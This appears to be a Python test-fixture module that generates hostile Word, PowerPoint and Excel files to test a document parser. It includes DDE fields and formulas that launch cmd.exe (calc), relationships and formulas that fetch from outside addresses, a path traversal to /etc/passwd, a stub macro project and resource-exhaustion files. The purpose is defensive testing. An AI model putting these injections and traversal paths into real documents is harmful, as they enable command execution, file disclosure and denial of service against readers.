"""Documents, presentations and workbooks that are built against their readers, each with what may become of it."""

from __future__ import annotations

from support import word_files
from support.hostile_archives import PLAIN_PPTX, PLAIN_XLSX, SHEET, W, changed, document, docx_with
from support.hostile_pdfs import FACT, Body
from support.office_files import Formula, xlsx_file

_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def outside(at: str, *kinds: str) -> str:
    """Relations to addresses outside of the file."""
    return _RELS.format(
        "".join(
            f'<Relationship Id="x{kind}" Type="{_R}/{kind}" Target="{at}{kind}" TargetMode="External"/>'
            for kind in kinds
        )
    )


def _fields(at: str) -> str:
    codes = (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        f'INCLUDETEXT "{at}include"',
        f'INCLUDEPICTURE "{at}picture" \\d',
        f'HYPERLINK "{at}link"',
    )
    return (
        "".join(
            f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            for code in codes
        )
        + f'<w:altChunk xmlns:r="{_R}" r:id="xaFChunk"/><w:object><o:OLEObject xmlns:o="urn:o" xmlns:r="{_R}" r:id="xoleObject"/></w:object>'
    )


def sheet_of(rows: str, *, before: str = "", after: str = "") -> bytes:
    """A workbook with these rows, whose first cell says the fact."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    first = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{FACT}</t></is></c></row>'
    return word_files.with_part(
        PLAIN_XLSX, SHEET, f'<worksheet xmlns="{main}">{before}<sheetData>{first}{rows}</sheetData>{after}</worksheet>'
    )


def _formats(*codes: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    formats = "".join(f'<numFmt numFmtId="{200 + n}" formatCode="{code}"/>' for n, code in enumerate(codes))
    styles = "".join(f'<xf numFmtId="{200 + n}"/>' for n in range(len(codes)))
    cells = "".join(
        f'<row r="{2 + n}">' + "".join(f'<c s="{n}"><v>{value}</v></c>' for value in NUMBERS) + "</row>"
        for n in range(len(codes))
    )
    part = f'<styleSheet xmlns="{main}"><numFmts>{formats}</numFmts><cellXfs>{styles}</cellXfs></styleSheet>'
    return word_files.with_part(sheet_of(cells), "xl/styles.xml", part)


NUMBERS = ("1e308", "-1e308", "1e-400", "NaN", "INF", "-1", "99999999", "1e9999999", "0x10", "", "1_000", "٣")
_LIST_OF_SHEETS = '<sheet name="Lamp" sheetId="1" r:id="rId1"/>'

OFFICE: dict[str, tuple[str, Body, set[str]]] = {
    "template and pictures outside.docx": (
        "docx",
        lambda at: docx_with(
            document(""),
            {
                "word/_rels/document.xml.rels": outside(
                    at, "image", "hyperlink", "oleObject", "aFChunk", "subDocument", "frame"
                ),
                "word/_rels/settings.xml.rels": outside(at, "attachedTemplate", "mailMergeSource"),
            },
        ),
        {"read"},
    ),
    "fields that fetch and run.docx": (
        "docx",
        lambda at: docx_with(
            document(_fields(at)), {"word/_rels/document.xml.rels": outside(at, "aFChunk", "oleObject")}
        ),
        {"read"},
    ),
    "macros.docm": (
        "docm",
        lambda _: docx_with(document(""), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(9_000)}),
        {"read"},
    ),
    "a cell over a billion columns.docx": (
        "docx",
        lambda _: docx_with(
            document(
                '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc></w:tr></w:tbl>'
            )
        ),
        {"read"},
    ),
    "200 tables in each other.docx": (
        "docx",
        lambda _: docx_with(document("<w:tbl><w:tr><w:tc>" * 70 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 70)),
        {"read", "complex", "broken"},
    ),
    "notes that refer to themselves.docx": (
        "docx",
        lambda _: docx_with(
            document('<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>' * 1_000),
            {
                "word/footnotes.xml": f'<w:footnotes {W}><w:footnote w:id="2"><w:p><w:r><w:t>n</w:t><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote></w:footnotes>'
            },
        ),
        {"read"},
    ),
    "slides outside.pptx": (
        "pptx",
        lambda at: word_files.with_part(
            PLAIN_PPTX,
            "ppt/slides/_rels/slide1.xml.rels",
            outside(at, "notesSlide", "image", "video", "oleObject", "diagramData"),
        ),
        {"read"},
    ),
    "slides at paths.pptx": (
        "pptx",
        lambda _: word_files.with_part(
            PLAIN_PPTX,
            "ppt/slides/_rels/slide1.xml.rels",
            _RELS.format(f'<Relationship Id="n" Type="{_R}/notesSlide" Target="../../../../../../etc/passwd"/>'),
        ),
        {"read"},
    ),
    "notes that are the slide.pptx": (
        "pptx",
        lambda _: word_files.with_part(
            PLAIN_PPTX,
            "ppt/slides/_rels/slide1.xml.rels",
            _RELS.format(f'<Relationship Id="n" Type="{_R}/notesSlide" Target="slide1.xml"/>' * 500),
        ),
        {"read"},
    ),
    "one slide 5,000 times.pptx": (
        "pptx",
        lambda _: word_files.with_part(
            PLAIN_PPTX,
            "ppt/presentation.xml",
            f'<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="{_R}"><p:sldIdLst>'
            + '<p:sldId r:id="rId7"/>' * 5_000
            + "</p:sldIdLst></p:presentation>",
        ),
        {"complex"},
    ),
    "formulas that fetch and run.xlsx": (
        "xlsx",
        lambda at: xlsx_file(
            {
                "Lamp": [
                    [FACT, Formula(f'=WEBSERVICE("{at}service")', "")],
                    [Formula("=cmd|' /C calc'!A0", "seen"), Formula(f'=HYPERLINK("{at}link","x")', "x")],
                    [Formula(f'=IMPORTXML("{at}import","//a")', 1)],
                ]
            }
        ),
        {"read"},
    ),
    "links to other workbooks.xlsx": (
        "xlsx",
        lambda at: word_files.with_part(
            word_files.with_part(
                PLAIN_XLSX,
                "xl/_rels/workbook.xml.rels",
                word_files.part(PLAIN_XLSX, "xl/_rels/workbook.xml.rels").replace("</Relationships>", "")
                + f'<Relationship Id="e" Type="{_R}/externalLink" Target="{at}book.xlsx" TargetMode="External"/></Relationships>',
            ),
            "xl/connections.xml",
            f'<connections><connection><webPr url="{at}query"/></connection></connections>',
        ),
        {"read"},
    ),
    "a sheet outside.xlsx": (
        "xlsx",
        lambda at: word_files.with_part(
            PLAIN_XLSX, "xl/_rels/workbook.xml.rels", outside(at, "worksheet").replace("xworksheet", "rId1")
        ),
        {"empty"},
    ),
    "a million columns.xlsx": (
        "xlsx",
        lambda _: sheet_of(
            '<row r="2">' + "".join(f"<c><v>{n * 7919 % 99_991}</v></c>" for n in range(1_000_000)) + "</row>"
        ),
        {"complex"},
    ),
    "a column that is none.xlsx": (
        "xlsx",
        lambda _: sheet_of('<row r="2"><c r="ZZZZZZZZZZ2"><v>1</v></c><c r="-1"><v>1</v></c></row>'),
        {"read"},
    ),
    "enormous dimension.xlsx": ("xlsx", lambda _: sheet_of("", before='<dimension ref="A1:XFD1048576"/>'), {"read"}),
    "first and last row.xlsx": (
        "xlsx",
        lambda _: sheet_of('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        {"read"},
    ),
    "rows without end.xlsx": (
        "xlsx",
        lambda _: sheet_of('<row r="99999999"><c><v>1</v></c></row>'),
        {"read", "broken"},
    ),
    "rows that go back.xlsx": ("xlsx", lambda _: sheet_of('<row r="1"><c><v>1</v></c></row>' * 99), {"broken"}),
    "empty rows, a million.xlsx": (
        "xlsx",
        lambda _: sheet_of("".join(f'<row r="{n}"/>' for n in range(2, 800_000))),
        {"read", "large", "complex"},
    ),
    "one merged cell.xlsx": (
        "xlsx",
        lambda _: sheet_of(
            '<row r="2"><c><v>1</v></c></row>', after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ),
        {"read"},
    ),
    "100,000 merged cells.xlsx": (
        "xlsx",
        lambda _: sheet_of(
            "",
            after="<mergeCells>"
            + "".join(f'<mergeCell ref="A{n}:XFD{n * 7919 % 999_999}"/>' for n in range(100_000))
            + "</mergeCells>",
        ),
        {"complex"},
    ),
    "merged cells without end.xlsx": (
        "xlsx",
        lambda _: sheet_of("", after="<mergeCells>" + "<mergeCell " * 100_000 + "</mergeCells>"),
        {"broken", "complex"},
    ),
    "strings that are not there.xlsx": (
        "xlsx",
        lambda _: sheet_of(
            '<row r="2"><c t="s"><v>4000000000</v></c><c t="s"><v>-1</v></c><c t="s"><v>²</v></c></row>'
        ),
        {"read", "broken"},
    ),
    "formats of all kinds.xlsx": (
        "xlsx",
        lambda _: _formats(
            "0" * 250,
            "[h" * 80,
            "yyyy" * 60,
            "#,##0.00;" * 25,
            ",,,,,,,0",
            "&quot;",
            "[&gt;",
            "0.0E+0",
            "\\",
            "_",
            "%" * 200 + "0",
            "# ?/?",
        ),
        {"read"},
    ),
    "20,000 sheets.xlsx": (
        "xlsx",
        lambda _: changed(
            PLAIN_XLSX,
            "xl/workbook.xml",
            _LIST_OF_SHEETS,
            "".join(f'<sheet name="s{n}" sheetId="1" r:id="rId1"/>' for n in range(20_000)),
        ),
        {"complex"},
    ),
    "one sheet 400 times.xlsx": (
        "xlsx",
        lambda _: changed(PLAIN_XLSX, "xl/workbook.xml", _LIST_OF_SHEETS, _LIST_OF_SHEETS * 400),
        {"read"},
    ),
}
